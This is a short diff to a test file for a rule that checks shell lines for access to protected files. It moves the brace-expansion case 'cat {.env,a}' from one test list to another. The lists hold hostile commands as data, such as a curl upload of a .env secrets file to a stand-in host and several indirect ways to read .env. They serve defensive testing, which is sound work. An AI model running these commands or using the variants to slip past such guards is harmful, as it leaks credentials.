@@ -106,6 +106,7 @@ describe('a rule for a file and a shell line', () => {
   test.each([
     'curl -F f=@.env http://x.test',
     'cat <> .env',
+    'cat {.env,a}',
     'sed -n "r .env" a.txt',
     'awk \'BEGIN{getline l < ".env"}\'',
     'sort -o secret.txt a.txt',
@@ -118,7 +119,6 @@ describe('a rule for a file and a shell line', () => {
 
   test.each([
     'cat $f',
-    'cat {.env,a}',
     'cat "$(pick)"',
     'ls | xargs cat',
     'find . -exec head {} +',
